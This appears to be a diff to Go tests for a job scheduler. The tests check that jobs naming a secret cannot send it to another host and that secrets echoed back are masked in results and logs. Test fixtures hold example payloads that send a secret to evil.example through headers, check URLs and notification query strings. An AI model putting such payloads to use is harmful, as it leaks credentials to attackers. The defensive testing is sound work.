@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/carillon-scheduler/carillon/jobs"
+	"github.com/carillon-scheduler/carillon/metastore"
 	"github.com/carillon-scheduler/carillon/ops"
 )
 
@@ -44,5 +45,65 @@ func TestWorkersRegisterNoHTTPJobs(t *testing.T) {
 	if _, err := p.s.Ops().Trigger(t.Context(), ops.Who{Actor: "person:ann"}, jobs.Create{Key: "innocent"}); err == nil {
 		p.until("the request is made", func() bool { return len(p.got()) > 0 })
 		t.Errorf("the server sent %v", p.got()[0].header["X-Stolen"])
+	}
+}
+
+// An admin's or an operator's job may name a secret, and may not send it to a host that the secret is not for.
+func TestSecretsStayWithTheirHosts(t *testing.T) {
+	p := newSite(t, "", func(int, seen) (int, string) { return 200, `{}` })
+	p.until("the scheduler is ready", func() bool { return p.s.Ready(t.Context()) == nil })
+	for what, call := range map[string]string{
+		"request":      `"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]`,
+		"check":        `"request":[{"url":"http://evil.example/"}],"async":true,"checkUrl":"http://evil.example/${secret:KEY}"`,
+		"notification": `"request":[{"url":"http://evil.example/"}],"notification":[{"url":"http://evil.example/?${secret:KEY}"}]`,
+		"service":      `"request":[{"url":"service://nobody/"}]`,
+	} {
+		status, text := p.post("/jobs", map[string]any{"key": what, "kind": "triggered", "app": "http", "http": json.RawMessage("{" + call + "}")})
+		if status != http.StatusUnprocessableEntity || !strings.Contains(text, `"body.http.`) || strings.Contains(text, "s3cret") {
+			t.Errorf("a job whose %s would take the secret elsewhere: %d %s", what, status, text)
+		}
+	}
+}
+
+// Whoever is called may repeat a secret, in an answer, a failure or a report, however it is written: nobody reads it.
+func TestRepeatedSecretsAreMasked(t *testing.T) {
+	const secret, inBase64, inHex = "s3cret", "czNjcmV0", "733363726574"
+	repeats := func(s string) bool {
+		return strings.Contains(s, secret) || strings.Contains(s, inBase64) || strings.Contains(strings.ToLower(s), inHex) || strings.Contains(s, "0ZW46czNjcmV0")
+	}
+	all := `{"plain":"s3cret","base64":"czNjcmV0","basic":"dG9rZW46czNjcmV0","hex":"733363726574"}`
+	p := newSite(t, "", func(_ int, r seen) (int, string) {
+		if r.header.Get("Authorization") != "Bearer s3cret" {
+			return 400, "no secret"
+		}
+		return map[bool]int{true: 500, false: 200}[strings.HasPrefix(r.path, "/fails")], all
+	})
+	with := `"headers":{"Authorization":"Bearer ${secret:KEY}"}`
+	p.make("answers", `{"request":[{"url":"FAR/answers",`+with+`}]}`, jobs.Settings{})
+	p.make("fails", `{"request":[{"url":"FAR/fails",`+with+`}]}`, jobs.Settings{})
+	p.make("reports", `{"async":true,"request":[{"url":"FAR/reports?callback=${schedulingFeedbackUrl}",`+with+`}]}`, jobs.Settings{})
+	answers, fails := p.run("answers", ""), p.run("fails", "")
+	id := p.begin("reports", "")
+	to := p.callbacks(1)[0]
+	p.mustCallBack(to, `{"progress":"1/2","message":"with 733363726574"}`, 200)
+	p.until("the progress is seen", func() bool { return p.progress(id) == "1 2 with ***" })
+	p.mustCallBack(to, `{"status":"succeed","data":`+all+`}`, 200)
+	reports := p.end(id)
+	if answers.State != jobs.Succeeded || fails.State != jobs.Terminated || reports.State != jobs.Succeeded {
+		t.Errorf("%s, %s %s, %s", answers.State, fails.State, fails.Error, reports.State)
+	}
+	for _, in := range []*jobs.Instance{answers, fails, reports} {
+		if raw, err := json.Marshal(in); err != nil || repeats(string(raw)) || repeats(string(in.Result)) || repeats(in.Error) {
+			t.Errorf("%s: %s %s %v", in.Key, in.Result, in.Error, err)
+		}
+		lines, err := p.s.Ops().Log(t.Context(), ops.Who{}, in.ID, metastore.LogPosition{}, 1000)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, line := range lines {
+			if repeats(line.Text) {
+				t.Errorf("%s logs %s", in.Key, line.Text)
+			}
+		}
 	}
 }
